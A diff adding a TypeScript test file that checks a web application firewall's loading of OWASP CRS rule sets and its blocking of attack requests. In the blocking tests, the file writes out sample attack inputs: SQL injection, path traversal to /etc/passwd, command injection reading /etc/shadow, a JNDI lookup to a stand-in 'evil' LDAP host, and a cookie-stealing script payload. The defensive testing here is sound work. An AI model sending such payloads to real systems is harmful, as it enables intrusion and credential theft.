@@ -1,0 +1,87 @@
+/**
+ * OWASP CRS 4.28 itself (loaded from ../shared/crs-4.28, never copied here): it loads, reports
+ * what it skips by rule id, and on CRS's own regression payloads (crs-dev.jsonl) the prefilter
+ * changes no outcome while sparing most regexes. The detection figure is `npm run waf:eval`'s.
+ */
+import t from 'tap';
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { loadCrs } from '../../../src/waf/crs/loader.js';
+import { CRS_ABSENT, crsDir } from '../../helpers/crs.js';
+import { run, type Req } from './helpers.js';
+
+const dir = crsDir();
+
+interface DevLine { id: string; method: string; uri: string; headers: [string, string][]; body?: string | null; pl: number; rule_id: number; expect: string; expect_ids: number[] }
+
+function reqOf(l: DevLine): Req {
+  const q = l.uri.indexOf('?');
+  const headers = [...l.headers];
+  if (l.body && !headers.some(([n]) => /^content-length$/i.test(n))) headers.push(['Content-Length', String(Buffer.byteLength(l.body))]);
+  return { method: l.method, path: q < 0 ? l.uri : l.uri.slice(0, q), query: q < 0 ? '' : l.uri.slice(q + 1), headers, ...(l.body ? { body: Buffer.from(l.body, 'utf8').toString('latin1') } : {}) };
+}
+
+void t.test('CRS 4.28 loads, with what it skips reported by rule id', { skip: dir === null ? CRS_ABSENT : false }, async (t) => {
+  const crs = loadCrs({ rulesDir: dir!, paranoia: 1, anomalyThreshold: 5 });
+  t.equal(crs.version, '4.28.0');
+  t.ok(crs.ruleCount > 400, `${crs.ruleCount} request rules`);
+  const skipped = new Map(crs.skipped.map((s) => [s.id, s.reason]));
+  t.match(skipped.get(942100), /@detectSQLi/, 'libinjection SQLi is reported, not silently dropped');
+  t.match(skipped.get(941100), /@detectXSS/);
+  t.ok([...skipped.keys()].some((id) => id >= 950000 && id < 960000), 'response rules are skipped');
+  t.notOk([...skipped.keys()].some((id) => id >= 911000 && id < 950000 && id !== 942100 && id !== 941100 && !/@detect/.test(skipped.get(id)!)), 'every other request rule runs');
+  t.ok(crs.evaluator.prefiltered > 150, `${crs.evaluator.prefiltered} patterns prefiltered`);
+});
+
+const corpus = join(dir ?? '', '..', 'waf-corpus', 'crs-dev.jsonl');
+void t.test('on CRS’s regression payloads neither the prefilter nor the no-match memo changes an outcome', { skip: dir === null || !existsSync(corpus) ? CRS_ABSENT : false }, async (t) => {
+  const lines = readFileSync(corpus, 'utf8').split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as DevLine)
+    .filter((l) => l.rule_id < 950000).filter((_, i) => i % 3 === 0); // a third: enough to see a difference, quick on a shared machine
+  const fast = loadCrs({ rulesDir: dir!, paranoia: 4, anomalyThreshold: 5 });
+  const slow = loadCrs({ rulesDir: dir!, paranoia: 4, anomalyThreshold: 5, prefilter: false });
+  let differ = 0;
+  let fired = 0;
+  for (const l of lines) {
+    const a = run(fast, reqOf(l)).matchedIds;
+    const b = run(slow, reqOf(l)).matchedIds;
+    // Sent again, values meet the no-match memo of the first pass: the same outcome.
+    const again = run(fast, reqOf(l)).matchedIds;
+    if (again.join() !== a.join()) t.fail(`${l.id}: ${again.join()} the second time, ${a.join()} the first`);
+    if (a.join() !== b.join()) {
+      differ++;
+      t.fail(`${l.id}: ${a.join()} with the prefilter, ${b.join()} without`);
+    }
+    if (l.expect === 'attack' && l.expect_ids.every((id) => a.includes(id))) fired++;
+  }
+  t.equal(differ, 0, `${lines.length} requests at paranoia 4`);
+  t.ok(fired > 0);
+});
+
+void t.test('attacks are blocked and ordinary requests pass at paranoia 1', { skip: dir === null ? CRS_ABSENT : false }, async (t) => {
+  const crs = loadCrs({ rulesDir: dir!, paranoia: 1, anomalyThreshold: 5 });
+  const h: [string, string][] = [['Host', 'shop.example'], ['User-Agent', 'Mozilla/5.0'], ['Accept', 'application/json']];
+  const cases: [Req, boolean][] = [
+    [{ path: '/search', query: 'q=1%27%20UNION%20SELECT%20password%20FROM%20users--', headers: h }, true],
+    [{ path: '/page', query: 'file=../../../../etc/passwd', headers: h }, true],
+    [{ path: '/x', query: 'cmd=;cat%20/etc/shadow', headers: h }, true],
+    [{ path: '/x', headers: [...h, ['X-Api-Version', '${jndi:ldap://evil/a}']] }, true],
+    [{ method: 'POST', path: '/api', headers: [...h, ['Content-Type', 'application/json'], ['Content-Length', '40']], body: '{"q":"<script>alert(document.cookie)</script>"}' }, true],
+    [{ path: '/api/v1/orders', query: 'status=open&limit=25&sort=-created_at', headers: h }, false],
+    [{ method: 'POST', path: '/api/orders', headers: [...h, ['Content-Type', 'application/json'], ['Content-Length', '50']], body: '{"name":"Conor O\'Dwyer","notes":"Ring twice, thanks!"}' }, false],
+  ];
+  for (const [req, attack] of cases) {
+    const tx = run(crs, req);
+    t.equal(tx.interrupted, attack, `${req.method ?? 'GET'} ${req.path}?${req.query ?? ''} ${attack ? 'blocked' : 'passes'} (${tx.matchedIds.join(',') || 'no match'}, score ${tx.tx.get('blocking_inbound_anomaly_score')})`);
+  }
+});
+
+const DEBIAN = '/usr/share/modsecurity-crs';
+void t.test('Debian’s modsecurity-crs (CRS 3.3.4) loads too', { skip: existsSync(join(DEBIAN, 'rules')) ? false : `${DEBIAN} absent (apt-get install modsecurity-crs)` }, async (t) => {
+  const setup = '/etc/modsecurity/crs/crs-setup.conf';
+  const crs = loadCrs({ rulesDir: DEBIAN, setup: existsSync(setup) ? setup : undefined, paranoia: 1, anomalyThreshold: 5 });
+  t.match(crs.version, /^3\.3\./);
+  t.ok(crs.ruleCount > 400, `${crs.ruleCount} request rules`);
+  const h: [string, string][] = [['Host', 'shop.example'], ['User-Agent', 'Mozilla/5.0'], ['Accept', 'application/json']];
+  t.equal(run(crs, { path: '/page', query: 'file=../../../../etc/passwd', headers: h }).interrupted, true, 'an attack is blocked');
+  t.equal(run(crs, { path: '/api/v1/orders', query: 'status=open&limit=25', headers: h }).interrupted, false, 'a plain GET passes');
+});
